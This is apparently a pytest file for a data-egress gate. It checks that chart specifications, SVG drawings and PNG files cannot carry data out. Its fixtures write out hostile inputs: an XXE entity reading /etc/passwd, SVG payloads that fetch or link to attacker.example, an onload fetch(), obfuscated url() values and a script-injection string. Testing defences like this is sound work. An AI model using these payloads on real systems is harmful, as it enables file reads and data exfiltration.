"""Ways to carry data out in a figure: addresses, expressions, transforms, words, numbers, and what hides in a picture's file."""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import zlib
from dataclasses import replace
from typing import Any

import pytest

from egress_gate.render.figure import PROGRAM, NotDrawn, draw
from egress_gate.render.figure import rows as rows_of
from egress_gate.render.figure_png import SIGNATURE, only_pixels
from egress_gate.render.figure_spec import MAX_LIST, Figure, SpecRefused, read_figure
from egress_gate.render.figure_svg import SvgRefused, sanitised
from egress_gate.render.table import CanonicalTable, Row

COLUMNS = ("sex", "n")
BAR: dict[str, Any] = {
    "mark": "bar",
    "encoding": {"x": {"field": "sex", "type": "nominal"}, "y": {"field": "n", "type": "quantitative"}},
}
URL = "https://attacker.example/?"
TABLE = CanonicalTable(
    ("sex",), ("n",), (Row({"sex": "F"}, (120,), False), Row({"sex": "M"}, (80,), False), Row({"sex": "X"}, (7,), True))
)


def with_encoding(**channels: Any) -> dict[str, Any]:
    return {**BAR, "encoding": {**BAR["encoding"], **channels}}


@pytest.mark.parametrize(
    "spec",
    [
        {**BAR, "data": {"url": URL}},
        {**BAR, "data": {"values": [{"sex": "patient 17", "n": 93}]}},
        {**BAR, "datasets": {"a": [{"n": 1}]}},
        {**BAR, "transform": [{"calculate": "datum.n * 2", "as": "m"}]},
        {**BAR, "transform": [{"lookup": "sex", "from": {"data": {"url": URL}, "key": "sex"}}]},
        {**BAR, "params": [{"name": "p", "expr": "1 + 1"}]},
        {**BAR, "usermeta": {"secret": "93"}},
        {**BAR, "config": {"axis": {"labelExpr": "datum.value"}}},
        {**BAR, "projection": {"type": "mercator"}},
        {**BAR, "background": "red"},
        {**BAR, "mark": {"type": "image", "url": URL}},
        {**BAR, "mark": "geoshape"},
        {**BAR, "mark": {"type": "bar", "href": URL}},
        {**BAR, "mark": {"type": "bar", "tooltip": True}},
        {**BAR, "mark": {"type": "bar", "color": {"expr": "'red'"}}},
        {**BAR, "mark": {"type": "bar", "color": f"url({URL})"}},
        {**BAR, "mark": {"type": "text", "text": {"expr": "datum.n"}}},
        {**BAR, "title": {"text": {"expr": "1"}}},
        {**BAR, "title": {"text": "a", "font": f"url({URL})"}},
        {**BAR, "width": "container"},
        {**BAR, "width": 1e9},
        {"hconcat": [BAR, BAR]},
        {"repeat": ["n"], "spec": BAR},
        {"layer": [{"layer": [BAR]}]},
        {"layer": [BAR] * 50},
        {**BAR, "layer": [BAR]},
        {"encoding": BAR["encoding"]},
        {"facet": {"field": "sex", "type": "nominal"}, "spec": {"facet": {"field": "sex"}, "spec": BAR}},
        with_encoding(href={"field": "sex", "type": "nominal"}),
        with_encoding(url={"value": URL}),
        with_encoding(tooltip={"field": "n", "type": "quantitative"}),
        with_encoding(key={"field": "n", "type": "quantitative"}),
        with_encoding(x={"field": "id", "type": "nominal"}),
        with_encoding(x={"field": "sex.length", "type": "nominal"}),
        with_encoding(x={"field": ["sex"], "type": "nominal"}),
        with_encoding(x={"field": {"repeat": "row"}, "type": "nominal"}),
        with_encoding(x={"field": "sex", "type": "geojson"}),
        with_encoding(x={"field": "sex", "type": "nominal", "axis": {"labelExpr": "datum.value"}}),
        with_encoding(x={"field": "sex", "type": "nominal", "axis": {"format": "x" * 30}}),
        with_encoding(x={"field": "sex", "type": "nominal", "timeUnit": "year"}),
        with_encoding(y={"aggregate": "sum", "field": "n", "type": "quantitative"}),
        with_encoding(color={"condition": {"test": "datum.n > 9", "value": "red"}, "value": "blue"}),
        with_encoding(color={"value": {"expr": "'red'"}}),
        with_encoding(color={"field": "n", "type": "quantitative", "scale": {"range": {"expr": "[1]"}}}),
        with_encoding(color={"field": "n", "type": "quantitative", "scale": {"domain": {"param": "p"}}}),
        with_encoding(color={"field": "n", "type": "quantitative", "scale": {"scheme": {"signal": "s"}}}),
        with_encoding(y={"field": "n", "type": "quantitative", "axis": {"values": list(range(MAX_LIST + 1))}}),
        {**BAR, "title": "x" * 121},
        {**BAR, "title": "hidden\u200b\u202ewords"},
        {**BAR, "title": ["x" * 120] * 50},
        {**BAR, "title": float("nan")},
        [BAR],
        {**BAR, "description": {"text": "x"}},
    ],
    ids=lambda spec: json.dumps(spec)[:90],
)
def test_what_is_outside_the_language_is_refused_by_name(spec: Any) -> None:
    with pytest.raises(SpecRefused) as refused:
        read_figure(spec, COLUMNS)
    assert refused.value.what.startswith("The figure was refused: ")


def test_many_words_numbers_and_sizes_are_refused_though_each_is_short() -> None:
    words = with_encoding(x={"field": "sex", "type": "nominal", "sort": ["w" * 100] * 30})
    numbers = {
        "layer": [
            with_encoding(y={"field": "n", "type": "quantitative", "axis": {"values": list(range(30))}})
            for _ in range(3)
        ]
    }
    sizes = {"layer": [{**BAR, "mark": {"type": "bar", "strokeDash": [i / 8 for i in range(30)]}}] * 4}
    for spec in (words, numbers, sizes):
        with pytest.raises(SpecRefused):
            read_figure(spec, COLUMNS)


def test_digits_in_words_and_numbers_of_the_analysts_own_are_told_to_the_steward() -> None:
    spec = {
        **with_encoding(y={"field": "n", "type": "quantitative", "scale": {"domain": [0, 931]}}),
        "title": "Ward ٩٣",
    }
    read = read_figure({**spec, "width": 300}, COLUMNS)
    assert read.digits == ["Ward ٩٣", "0", "931"]
    assert not read_figure({**BAR, "title": "People by sex", "width": 300}, COLUMNS).digits


def test_a_withheld_row_is_nowhere_in_what_is_drawn() -> None:
    drawn = draw(read_figure(BAR, COLUMNS), TABLE)
    assert drawn.spec["data"] == {"values": [{"sex": "F", "n": 120}, {"sex": "M", "n": 80}]}
    assert b">X<" not in drawn.svg
    assert b">F<" in drawn.svg
    assert b"http" not in drawn.svg.replace(b"http://www.w3.org/2000/svg", b"")


def test_values_of_the_data_are_data_and_never_markup_or_expressions() -> None:
    hostile = "</text><script>alert(1)</script>"
    table = CanonicalTable(
        ("sex",), ("n",), (Row({"sex": hostile}, (120,), False), Row({"sex": "datum['n']"}, (5,), False))
    )
    svg = draw(read_figure(BAR, COLUMNS), table).svg
    assert b"<script" not in svg
    assert b"&lt;script&gt;" in svg


def test_the_drawing_process_fetches_nothing_and_stops_at_its_limits() -> None:
    job = {"spec": {**BAR, "data": {"url": "http://127.0.0.1:9/x.json"}}}
    done = subprocess.run(
        [sys.executable, "-I", str(PROGRAM), "20", str(1536 * 1024**2)],
        input=json.dumps(job).encode(),
        capture_output=True,
        check=False,
        env={},
        timeout=60,
    )
    assert done.returncode != 0 or b"127.0.0.1" not in done.stdout
    small = [sys.executable, "-I", str(PROGRAM), "20", str(64 * 1024**2)]
    limited = subprocess.run(
        small, input=json.dumps({"spec": BAR}).encode(), capture_output=True, check=False, env={}, timeout=60
    )
    assert limited.returncode != 0


def test_what_cannot_be_drawn_is_said_and_nothing_is_made() -> None:
    rows = tuple(Row({"sex": str(i)}, (i,), False) for i in range(6_000))
    with pytest.raises(NotDrawn):
        draw(read_figure(BAR, COLUMNS), CanonicalTable(("sex",), ("n",), rows))
    with pytest.raises(NotDrawn):
        draw(Figure(spec={"mark": "no such mark"}), TABLE)


def test_whether_a_figure_can_be_drawn_does_not_answer_a_condition(monkeypatch: pytest.MonkeyPatch) -> None:
    """Else HAVING n > k over one row too many, or over a row that no picture shows, would be a question without a steward."""
    wide = tuple(Row({"sex": str(n)}, (n,), False, left_out=n > 0) for n in range(5_001))
    with pytest.raises(NotDrawn):
        draw(read_figure(BAR, COLUMNS), CanonicalTable(("sex",), ("n",), wide))
    unshown: list[CanonicalTable] = []
    monkeypatch.setattr("egress_gate.render.figure.rows", lambda table: unshown.append(table) or rows_of(table))
    left = replace(TABLE, rows=tuple(replace(r, left_out=True) for r in TABLE.rows))
    drawn = draw(read_figure(BAR, COLUMNS), left)
    assert [len(t.leaving) for t in unshown] == [2, 0]
    assert drawn.spec["data"] == {"values": []}
    assert b"120" not in drawn.svg


@pytest.mark.parametrize(
    "svg",
    [
        "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>",
        "<?xml-stylesheet href='https://attacker.example/x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<html xmlns='http://www.w3.org/1999/xhtml'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'>",
        "<svg/>",
    ],
)
def test_a_drawing_that_declares_anything_is_refused(svg: str) -> None:
    with pytest.raises(SvgRefused):
        sanitised(svg)


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<style>@import url(https://attacker.example/x.css)</style>",
        "<image href='https://attacker.example/x.png'/>",
        "<a href='https://attacker.example/'><rect width='9'/></a>",
        "<use href='https://attacker.example/x.svg#a'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>attacker.example</body></foreignObject>",
        "<rect onload='fetch(\"https://attacker.example\")'/>",
        "<rect fill='url(https://attacker.example/#a)'/>",
        "<rect style='background:url(https://attacker.example)'/>",
        "<rect fill='u\\72l(https://attacker.example)'/>",
        "<g>attacker.example<rect/>attacker.example</g>",
        "<metadata>attacker.example</metadata><desc>attacker.example</desc>",
        "<animate href='#a' attributeName='href' to='https://attacker.example'/>",
        "<set attributeName='onload' to='attacker.example'/>",
    ],
)
def test_only_the_drawing_is_left_of_a_drawing(inside: str) -> None:
    made = sanitised(f"<svg xmlns='http://www.w3.org/2000/svg' width='9'>{inside}<path d='M0,0'/></svg>")
    assert "attacker" not in made
    assert "script" not in made
    assert "<path" in made


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


HEADER = struct.pack(">IIBBBBB", 2, 2, 8, 6, 0, 0, 0)
PIXELS = b"".join(b"\x00" + bytes(8) for _ in range(2))


def png(*extra: bytes, header: bytes = HEADER, pixels: bytes = PIXELS, after: bytes = b"") -> bytes:
    packed = chunk(b"IDAT", zlib.compress(pixels) + after)
    return SIGNATURE + chunk(b"IHDR", header) + b"".join(extra) + packed + chunk(b"IEND", b"") + b"trailing secret"


def test_a_picture_keeps_its_pixels_and_nothing_else() -> None:
    made = only_pixels(png(chunk(b"tEXt", b"Comment\0secret"), chunk(b"eXIf", b"secret"), chunk(b"prIv", b"secret")))
    assert b"secret" not in made
    assert made == only_pixels(made)
    assert zlib.decompress(made[made.index(b"IDAT") + 4 : made.index(b"IEND") - 8]) == PIXELS


@pytest.mark.parametrize(
    "broken",
    [
        b"GIF89a",
        png(after=b"secret behind the pixels"),
        png(pixels=PIXELS + b"secret"),
        png(pixels=PIXELS[:-1]),
        png(pixels=b"\x09" + PIXELS[1:]),
        png(header=struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)),
        png(header=struct.pack(">IIBBBBB", 2, 2, 8, 3, 0, 0, 0)),
        png()[:40],
    ],
)
def test_a_picture_that_is_more_than_its_pixels_is_refused(broken: bytes) -> None:
    with pytest.raises(SvgRefused):
        only_pixels(broken)
